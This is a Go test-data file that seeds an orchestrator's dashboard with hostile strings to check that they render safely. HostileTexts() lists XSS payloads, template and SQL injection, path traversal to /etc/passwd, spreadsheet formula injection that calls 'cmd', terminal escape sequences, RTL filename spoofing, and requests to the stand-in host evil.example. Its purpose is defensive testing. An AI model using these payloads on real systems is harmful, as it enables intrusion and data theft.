package showcase

import (
	"context"
	"strings"
	"time"

	"github.com/rocketgpt/orchestrator/contract"
	"github.com/rocketgpt/orchestrator/internal/store"
)

// XSSHook is the property that hostile texts set if a page executes them: window.__xss. Other
// successful attacks send a request to HostileHost.
const XSSHook = "__xss"

// HostileHost is the host that hostile texts try to reach.
const HostileHost = "evil.example"

// HostileTexts returns texts that try to be interpreted: as markup, attributes, URLs, templates, or
// control characters for terminals and readers.
func HostileTexts() []string {
	return []string{
		`<script>window.__xss='script'</script>`,
		`"><img src=x onerror="window.__xss='img'">`,
		`'><svg/onload=window.__xss='svg'>`,
		`</script><script>window.__xss='end of script'</script>`,
		`</textarea></title></style></noscript><img src=x onerror=window.__xss='end of raw text'>`,
		`javascript:window.__xss='url'`,
		" java\tscript:window.__xss='split url'",
		`<a href="javascript:window.__xss='link'" autofocus onfocus="window.__xss='focus'">click</a>`,
		`" onmouseover="window.__xss='over'" onfocus="window.__xss='focus'" autofocus tabindex="0" x="`,
		`' onclick='window.__xss="click"' style='position:fixed;inset:0;z-index:99999' x='`,
		"` onload=`window.__xss='backtick'`",
		`<iframe srcdoc="<script>parent.window.__xss='frame'</script>"></iframe>`,
		`<details open ontoggle="window.__xss='toggle'"><summary>x</summary></details>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss='mutation'&gt;">`,
		`{{constructor.constructor("window.__xss='template'")()}} ${window.__xss='literal'} #{7*7} <%= 7*7 %> {%raw%}`,
		`<!-- <!--> --> ]]> <![CDATA[ <?php echo 1 ?> `,
		`&lt;script&gt;window.__xss='escaped'&lt;/script&gt; &amp;lt;b&amp;gt; &#60;img src=x onerror=window.__xss='entity'&#62;`,
		`\u003cscript\u003ewindow.__xss='json'\u003c/script\u003e \x3cimg src=x onerror=window.__xss='hex'\x3e`,
		`{"a":"</script><script>window.__xss='json end'</script>","__proto__":{"polluted":true}}`,
		`<img src="http://evil.example/pixel.png"><link rel=stylesheet href=//evil.example/x.css><base href="//evil.example/">`,
		`<meta http-equiv="refresh" content="0;url=//evil.example/"><form action=//evil.example><input name=q autofocus></form>`,
		`<style>*{display:none!important;background:url(//evil.example/css)}</style>`,
		`data:text/html,<script>window.opener.__xss='data'</script>`,
		"\x1b[31mred\x1b[0m \x1b]8;;javascript:window.__xss='osc'\x07link\x1b]8;;\x07 \x1b[2J\x1b]0;title\x07",
		"bell\x07 back\x08\x08space cr\rover vt\x0b ff\x0c esc\x1b del\x7f c1\u0085\u009b31m",
		"invoice\u202efdp.exe \u2066isolate \u200bzero\u200dwidth \ufeffbom \u2028line\u2029paragraph",
		"line one\nline two\r\nline three\tand a tab\n\n\n# heading\n- [link](javascript:window.__xss='markdown') ![x](//evil.example/md.png)",
		strings.Repeat("Z\u0351\u036b\u0343\u0300", 40) + " \U000e0041\U000e0042",
		`'; DROP TABLE orchestrator_runs; -- %00 %s %n ../../../../etc/passwd`,
		`=HYPERLINK("http://evil.example/"&A1,"x") | @SUM(1+1)*cmd|' /C calc'!A0`,
	}
}

// hostile writes a run for each hostile text, which is used for every text of a model, a
// repository, a test or a person, and one run with all of them.
func (f *dataset) hostile(ctx context.Context) error {
	texts := HostileTexts()
	for i, text := range append(texts, strings.Join(texts, "\n")) {
		if err := f.attack(ctx, int64(i+1), text); err != nil {
			return err
		}
	}
	for i, text := range append(texts, strings.Join(texts, "\n")) {
		if err := f.deliberates(ctx, f.now.Add(-time.Duration(39-i)*time.Hour), text); err != nil {
			return err
		}
	}
	for _, text := range texts {
		if err := f.evaluation(ctx, cut(text, 500), text); err != nil {
			return err
		}
		if err := f.flakyTests(ctx, cut(text, 500), []string{text}, text, text); err != nil {
			return err
		}
	}
	for i, text := range texts {
		health := contract.HealthDegraded
		if i%2 == 0 {
			health = contract.HealthHealthy
		}
		beat := store.Beat{Worker: text, Version: text, StartedAt: f.now, Every: time.Hour, OfflineAfter: time.Hour, Agents: []store.AgentBeat{
			{Name: text, Type: "builder", HealthStatus: health, Detail: text, Work: []contract.Work{{RunID: 1, Phase: contract.Phase(text), Step: text, Activity: text, Since: f.now}}},
		}}
		if err := f.store.Heartbeat(ctx, beat); err != nil {
			return err
		}
		if err := f.hostileChangeSet(ctx, text, i%2 == 0); err != nil {
			return err
		}
	}
	return nil
}

// attack writes one run with every kind of record, in which every text is the given one.
func (f *dataset) attack(ctx context.Context, number int64, text string) error {
	name := "src/" + text + "/" + text + ".go"
	model := contract.ModelChoice{Provider: "ollama", Model: text}
	t := f.begin(ctx, runOptions{
		project: text, goal: text, description: text + "\n" + text, at: f.now.Add(-time.Duration(40-number) * time.Hour),
		models: map[contract.Agent]contract.ModelChoice{contract.AgentBuilder: model, contract.AgentRepair: model, contract.AgentPlanner: model},
		settings: func(s *contract.Settings) {
			s.Repo.URL, s.Repo.Branch, s.Release.Branch, s.Release.Remote = cut(text, 500), text, cut(text, 500), text
			s.Release.Stay, s.Release.MaxRepairs = day, 3
		},
	})
	plan := planOf(text, 0.5,
		part{name: text, text: text, files: []string{name}}, part{name: text, text: text, files: []string{name, text}, after: []int{1}, risk: contract.LevelHigh})
	for i := range plan.Steps {
		plan.Steps[i].VerificationCriteria = []string{text}
	}
	said := turn{say: text, in: 1000, out: 100, took: time.Second, calls: []use{
		{name: "run_command", args: map[string]any{"command": text, text: text}, result: text, took: time.Second, wrong: contract.CodeCommandCrashed},
		{name: text, args: map[string]any{"path": text}, result: text},
	}}
	repair := healing{
		action: contract.HealRepair, cause: text, message: text, step: "step-002", by: text, took: time.Second, turns: []turn{said},
		before: map[string]any{"text": text, text: text}, after: map[string]any{"text": text, text: text},
		patch: "diff --git a/" + oneLine(text) + " b/" + oneLine(text) + "\n--- a/" + oneLine(text) + "\n+++ b/" + oneLine(text) + "\n@@ -1,1 +1,1 @@ " + oneLine(text) + "\n-" + oneLine(text) + "\n+" + oneLine(text) + " again\n",
	}
	suite := inspection{
		check: contract.Check{ID: "test-go", Category: contract.CategoryTest, Name: text}, took: time.Second, red: true, message: text, log: text + "\n" + text + "\n",
		cases: []contract.TestCase{{Name: text, Status: contract.TestFailed, Message: text, Location: text}, {Name: text + " two", Status: contract.TestFlaky, Message: text}},
		findings: []contract.Finding{
			{Severity: contract.SeverityMajor, Category: contract.CategoryTest, Message: text, Location: text, Rule: text},
			{Severity: contract.SeverityMinor, Category: contract.CategoryLint, Message: text, Location: name + ":1", Rule: text},
		},
		files: []file{{text + ".png", contract.ArtifactScreenshot, screenshot}, {text + ".svg", contract.ArtifactScreenshot, []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss='svg file'"><script>window.__xss='svg script'</script></svg>`)}, {text + ".html", contract.ArtifactFile, []byte(`<script>window.__xss='html file'</script>`)}, {text, contract.ArtifactJSON, []byte(jsonOf(map[string]string{text: text}))}},
	}
	t.plans(plan, 5*time.Second)
	t.asks("plan", day)
	t.phase = contract.PhasePlanner
	t.answers("plan", text, text, true)
	t.starts(contract.PhaseBuilder)
	t.switches(contract.AgentBuilder, model, text)
	failure := fail(contract.ClassRuntime, contract.CodeCommandCrashed, text, text)
	t.builds([]stepWork{{step: "step-001", turns: []turn{said, said}}, {step: "step-002", turns: []turn{said}, failure: failure}})
	t.fails(contract.PhaseBuilder, failure)
	t.recordHeal(repair)
	t.starts(contract.PhaseBuilder)
	t.builds([]stepWork{{step: "step-002", turns: []turn{said}}})
	t.built(repair.patch)
	t.starts(contract.PhaseTester)
	t.tested(t.checks(suite))
	t.recordHeal(repair)
	t.starts(contract.PhaseTester)
	suite.red = false
	t.tested(t.checks(suite))
	switch number % 4 {
	case 0: // waits for a person, with the text
		t.asks("release", day)
	case 1:
		t.needsHelp(contract.InterventionHelp, text, text, day)
	case 2:
		t.pauses(text, text)
	default:
		t.releases(repair.patch)
		t.stays(2 * day)
		t.receives(contract.CheckMessage{ID: objectID(text), Kind: contract.CheckComment, Name: cut(oneLine(text), 150), Summary: text, Details: text, URL: text, By: cut(oneLine(text), 150)})
		t.ends(fail(contract.ClassAssertion, contract.CodeCheckFailed, text, text))
	}
	return t.backdate()
}

func oneLine(s string) string { return strings.NewReplacer("\n", " ", "\r", " ").Replace(s) }

func cut(s string, most int) string { return strings.ToValidUTF8(s[:min(len(s), most)], "") }
